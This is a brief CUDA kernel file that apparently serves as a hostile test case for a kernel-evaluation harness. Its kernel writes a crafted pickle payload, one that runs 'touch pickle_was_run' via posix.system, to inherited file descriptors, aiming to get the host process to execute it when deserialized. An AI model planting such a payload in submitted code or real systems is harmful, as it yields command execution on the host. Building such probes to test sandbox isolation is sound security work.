// It sends a pickle that, read as one, runs a command.
/* convt3d
pass = "fprop"
dtypes = ["fp32"]
[[launch]]
grid = 1
block = 1
*/
#ifndef __CUDA_ARCH__
#include <cstring>
#include <unistd.h>
#endif

extern "C" __global__ void hostile(const float* input, const float* weight, const float* bias, float* output,
                                   long long output_numel) {
  char text[128] = {};
  const char pickle[] = "cposix\nsystem\n(S'touch pickle_was_run'\ntR.";
  const long long size = sizeof(pickle) - 1;
  memcpy(text, &size, 8);
  memcpy(text + 8, pickle, size);
  for (int file = 3; file < 64; ++file) (void)!write(file, text, size + 8);
}
